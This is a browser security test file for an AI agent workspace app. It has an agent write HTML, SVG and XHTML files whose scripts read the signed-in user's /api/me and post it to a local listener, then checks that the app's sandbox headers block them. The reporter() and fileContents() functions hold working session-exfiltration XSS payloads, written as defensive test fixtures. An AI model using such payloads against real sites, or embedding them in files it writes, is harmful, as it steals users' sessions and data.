/**
 * Issue 11: files an agent writes never run script with the user's session. A real pi, scripted
 * by the fake LLM, writes HTML, SVG and XHTML files whose scripts read `/api/me` and report it
 * (and any execution at all) to a listener on 127.0.0.1; a signed-in Chromium then opens them
 * directly (attachment and `?inline=1`), in the file pane's preview and from links in the chat.
 * The listener must hear nothing. The same bytes served from the listener's own origin without a
 * CSP are the positive control: there they run and report, so the detection itself works.
 */
import { afterAll, afterEach, beforeAll, describe, expect, test } from "bun:test";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { Browser, BrowserContext, Download, Page } from "playwright-core";
import { launchChromium, newPage, signInState } from "../helpers/browser.ts";
import { type Stack, startStack } from "../helpers/stack.ts";

const WORKSPACE = "active";
/** How long a check waits for a report that must not come (a script reports in a few ms). */
const QUIET_MS = 500;
const FILES = ["notes.html", "notes.svg", "notes.xhtml"] as const;
type FileName = (typeof FILES)[number];
const CONTENT_TYPES: Record<FileName, string> = {
  "notes.html": "text/html; charset=utf-8",
  "notes.svg": "image/svg+xml",
  "notes.xhtml": "application/xhtml+xml",
};

interface Heard {
  method: string;
  path: string;
  body: string;
}

let stack: Stack;
let browser: Browser;
let listener: ReturnType<typeof Bun.serve>;
/** Every request the listener got (the controls' are cleared once checked). */
const heard: Heard[] = [];
const pageErrors: string[] = [];
let signedInState: Awaited<ReturnType<BrowserContext["storageState"]>>;

const fileUrl = (name: string, query = "") =>
  `${stack.baseUrl}/api/workspaces/${WORKSPACE}/files/${name}${query}`;
const listenerUrl = () => `http://127.0.0.1:${listener.port}`;

/**
 * A script that reports that it ran (an image, a fetch, and a navigation a CSP cannot stop), then
 * fetches `/api/me` with the page's credentials and posts what it got. No `&` or `<`: it goes
 * into XML text and into attributes as it is.
 */
function reporter(file: FileName, how: string): string {
  const base = listenerUrl();
  const tag = `${file}/${how}`;
  return [
    `var at = '?at=' + encodeURIComponent(location.href);`,
    `new Image().src = '${base}/ran/${tag}' + at;`,
    `try { fetch('${base}/ran-fetch/${tag}' + at, { method: 'POST', mode: 'no-cors', body: 'ran' }); } catch (e) {}`,
    `fetch('/api/me', { credentials: 'include' }).then(r => r.text()).then(t => fetch('${base}/report/${tag}' + at, { method: 'POST', body: t }));`,
    `setTimeout(function () { location.href = '${base}/nav/${tag}' + at; }, 200);`,
  ].join(" ");
}

/** The files as the agent writes them: a script element and an event handler in each. */
function fileContents(): Record<FileName, string> {
  const handler = (file: FileName) =>
    `new Image().src = '${listenerUrl()}/ran/${file}/handler?at=' + encodeURIComponent(location.href)`;
  return {
    "notes.html": `<!doctype html>
<html><head><meta charset="utf-8"><title>Notes</title></head>
<body><h1>Meeting notes</h1>
<img src="x:" alt="" onerror="${handler("notes.html")}">
<script>${reporter("notes.html", "script")}</script>
</body></html>
`,
    "notes.svg": `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="${handler("notes.svg")}">
<rect width="40" height="40" fill="teal"/>
<script><![CDATA[${reporter("notes.svg", "script")}]]></script>
</svg>
`,
    "notes.xhtml": `<?xml version="1.0" encoding="UTF-8"?>
<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Notes</title></head>
<body><h1>Meeting notes</h1>
<img src="x:" alt="" onerror="${handler("notes.xhtml")}"/>
<script><![CDATA[${reporter("notes.xhtml", "script")}]]></script>
</body></html>
`,
  };
}

beforeAll(async () => {
  // Answers anyone (CORS *), so a script that runs anywhere, in any origin, can report here.
  listener = Bun.serve({
    hostname: "127.0.0.1",
    port: 0,
    fetch: async (req) => {
      const url = new URL(req.url);
      const cors = {
        "access-control-allow-origin": "*",
        "access-control-allow-methods": "GET, POST, OPTIONS",
        "access-control-allow-headers": "*",
      };
      heard.push({ method: req.method, path: url.pathname + url.search, body: await req.text() });
      const control = /^\/control\/(notes\.(?:html|svg|xhtml))$/.exec(url.pathname)?.[1] as
        | FileName
        | undefined;
      if (control) {
        // The very bytes pi wrote, from this origin, with no CSP: the positive control.
        const bytes = readFileSync(join(stack.workspaceRoot, WORKSPACE, control));
        return new Response(bytes, { headers: { "content-type": CONTENT_TYPES[control] } });
      }
      if (url.pathname === "/api/me") return Response.json({ control: true }, { headers: cors });
      return new Response(url.pathname.startsWith("/nav/") ? "navigated" : null, {
        status: url.pathname.startsWith("/nav/") ? 200 : 204,
        headers: cors,
      });
    },
  });
  stack = await startStack();
  browser = await launchChromium();
  signedInState = await signInState(browser, stack, pageErrors);
  const created = await fetch(`${stack.baseUrl}/api/workspaces`, {
    method: "POST",
    headers: { "content-type": "application/json", authorization: `Bearer ${stack.admin.token}` },
    body: JSON.stringify({ name: WORKSPACE }),
  });
  expect(created.status).toBe(201);
}, 90_000);

afterEach(() => {
  expect(pageErrors.splice(0)).toEqual([]);
});

afterAll(async () => {
  await browser?.close();
  await stack?.stop();
  await listener?.stop(true);
});

/** Waits QUIET_MS and fails, naming the vector, if anything reached the listener. */
async function expectSilence(vector: string): Promise<void> {
  await Bun.sleep(QUIET_MS);
  expect({ vector, heard: heard.splice(0) }).toEqual({ vector, heard: [] });
}

async function waitForHeard(predicate: (h: Heard) => boolean, what: string): Promise<Heard> {
  const deadline = Date.now() + 10_000;
  for (;;) {
    const hit = heard.find(predicate);
    if (hit) return hit;
    if (Date.now() > deadline) throw new Error(`the listener never heard ${what}: ${JSON.stringify(heard)}`);
    await Bun.sleep(25);
  }
}

/** Opens a URL that must download: resolves with the download (goto itself fails with it). */
async function gotoDownload(page: Page, url: string): Promise<Download> {
  const download = page.waitForEvent("download");
  await page.goto(url).catch(() => {});
  return download;
}

describe("active content written by an agent", () => {
  test("HTML, SVG and XHTML with scripts run nothing with the session: directly, in the preview, from the chat", async () => {
    const started = Date.now();
    const contents = fileContents();
    const { context, page } = await newPage(browser, pageErrors, {
      viewport: { width: 1400, height: 860 },
      storageState: signedInState,
    });
    // Every page's downloads: Chromium gives a chat link's to the chat (the tab it opened closes).
    const downloads: string[] = [];
    const watch = (opened: Page) => opened.on("download", (d) => downloads.push(d.suggestedFilename()));
    watch(page);
    context.on("page", watch);

    // The agent writes the files through pi's real write tool, then links them in its answer.
    await page.goto(`${stack.baseUrl}/w/${WORKSPACE}`);
    await page.locator('[data-testid="connection-state"][data-state="connected"]').waitFor();
    await page.getByTestId("new-session").first().click();
    await page.waitForURL(/\/s\/oqto-[0-9a-f-]{36}$/);
    const idle = () => page.locator('[data-testid="session-state"][data-state="idle"]').waitFor();
    await idle();
    const link = (name: string, query = "") => `/api/workspaces/${WORKSPACE}/files/${name}${query}`;
    const answer = [
      "Your notes are ready:",
      "",
      ...FILES.flatMap((name) => [
        `- [${name}](${link(name)})`,
        `- [${name} inline](${link(name, "?inline=1")})`,
      ]),
      "",
      `![preview](${link("notes.svg")}) ![preview inline](${link("notes.svg", "?inline=1")})`,
      "",
      "All written.",
    ].join("\n");
    stack.fakeLlm.script([
      {
        match: "write my notes",
        toolCalls: FILES.map((name) => ({
          name: "write",
          arguments: { path: name, content: contents[name] },
        })),
      },
      { text: answer },
    ]);
    const composer = page.getByTestId("composer-input");
    await composer.fill("Please write my notes as HTML, SVG and XHTML");
    await composer.press("Enter");
    const markdown = page.locator('[data-role="assistant"] .markdown', { hasText: "All written." });
    await markdown.waitFor();
    await idle();
    expect(
      await page.locator('[data-testid="tool-card"][data-tool="write"][data-status="success"]').count(),
    ).toBe(FILES.length);
    for (const name of FILES) {
      const onDisk = readFileSync(join(stack.workspaceRoot, WORKSPACE, name), "utf8");
      expect(onDisk).toBe(contents[name]);
      expect(onDisk).toContain("fetch('/api/me'");
    }

    // Positive control: the same bytes from the listener's origin, without a CSP, do run.
    const control = await context.newPage();
    for (const name of FILES) {
      await control.goto(`${listenerUrl()}/control/${name}`);
      await waitForHeard((h) => h.path.startsWith(`/ran/${name}/script`), `the ${name} control's beacon`);
      await waitForHeard((h) => h.path.startsWith(`/report/${name}/script`), `the ${name} control's report`);
      await waitForHeard((h) => h.path.startsWith(`/nav/${name}/script`), `the ${name} control's navigation`);
      await control.waitForURL(/\/nav\//);
      await waitForHeard((h) => h.path.startsWith(`/ran/${name}/handler`), `the ${name} control's handler`);
    }
    const controlReports = heard.filter((h) => h.path.startsWith("/report/")).map((h) => h.body);
    expect(controlReports).toEqual(FILES.map(() => '{"control":true}'));
    await control.close();
    // (Late beacons and the favicon of the controls' origin land before the checks start.)
    await Bun.sleep(QUIET_MS);
    heard.splice(0);

    // The browser holds the session: a script in Oqto's origin would get the user from /api/me.
    const me = await context.request.get(`${stack.baseUrl}/api/me`);
    expect(me.status()).toBe(200);
    expect(await me.text()).toContain(stack.admin.username);

    // The file responses themselves, as the signed-in browser gets them.
    for (const name of FILES) {
      for (const inline of [false, true]) {
        const response = await context.request.get(fileUrl(name, inline ? "?inline=1" : ""));
        expect(response.status()).toBe(200);
        const headers = response.headers();
        expect(headers["content-security-policy"]).toContain("sandbox");
        expect(headers["content-security-policy"]).toContain("default-src 'none'");
        expect(headers["x-content-type-options"]).toBe("nosniff");
        expect(headers["content-disposition"]).toStartWith(inline ? "inline;" : "attachment;");
        expect(await response.text()).toBe(contents[name]);
      }
    }
    let checks = 0;

    // (a) Opened directly: without inline=1 it downloads; with it, it renders sandboxed.
    const direct = await context.newPage();
    for (const name of FILES) {
      const download = await gotoDownload(direct, fileUrl(name));
      expect(download.suggestedFilename()).toBe(name);
      expect(readFileSync(await download.path(), "utf8")).toBe(contents[name]);
      await expectSilence(`direct ${name}`);
      const response = await direct.goto(fileUrl(name, "?inline=1"));
      expect(response?.status()).toBe(200);
      expect((await response?.allHeaders())?.["content-security-policy"]).toContain("sandbox");
      await expectSilence(`direct ${name}?inline=1`);
      checks += 2;
    }
    await direct.close();

    // (b) Through the file pane's preview.
    await page.getByTestId("toggle-files").click();
    await page.getByTestId("file-tree").waitFor();
    for (const name of FILES) {
      await page.locator(`[data-testid="file-node"][data-path="${name}"]`).click();
      const preview = page.locator(`[data-testid="file-preview"][data-path="${name}"]`);
      await preview.waitFor();
      if (name === "notes.svg") {
        // Shown as an image, where SVG runs no script.
        await preview.getByTestId("file-image").waitFor();
        await page.waitForFunction(
          () => document.querySelector<HTMLImageElement>('[data-testid="file-image"]')?.naturalWidth === 40,
        );
      } else {
        // Shown as source text.
        await preview.getByTestId("file-code").getByText("Meeting notes", { exact: false }).waitFor();
        expect(await preview.getByTestId("file-code").textContent()).toBe(contents[name]);
      }
      await expectSilence(`preview ${name}`);
      checks += 1;
    }

    // (c) From the links in the chat answer (each opens a tab), and the images it embeds.
    for (const name of FILES) {
      for (const query of ["", "?inline=1"]) {
        const before = downloads.length;
        const popup = context.waitForEvent("page");
        await markdown.locator(`a[href="${link(name, query)}"]`).click();
        const opened = await popup;
        if (query === "") {
          const deadline = Date.now() + 10_000;
          while (downloads.length === before && Date.now() < deadline) await Bun.sleep(25);
          expect(downloads.slice(before)).toEqual([name]);
        } else {
          await opened.waitForURL(fileUrl(name, query));
          await opened.waitForLoadState("load");
        }
        await expectSilence(`chat link ${name}${query}`);
        await opened.close();
        checks += 1;
      }
    }
    await page.waitForFunction(
      () =>
        [...document.querySelectorAll<HTMLImageElement>('[data-role="assistant"] .markdown img')].filter(
          (img) => img.complete && img.naturalWidth === 40,
        ).length === 2,
    );
    await expectSilence("chat images");
    checks += 1;

    await context.close();
    expect(checks).toBe(FILES.length * 5 + 1);
    console.log(`active content: ${checks} checks silent, 3 controls heard, ${Date.now() - started} ms`);
  }, 90_000);
});
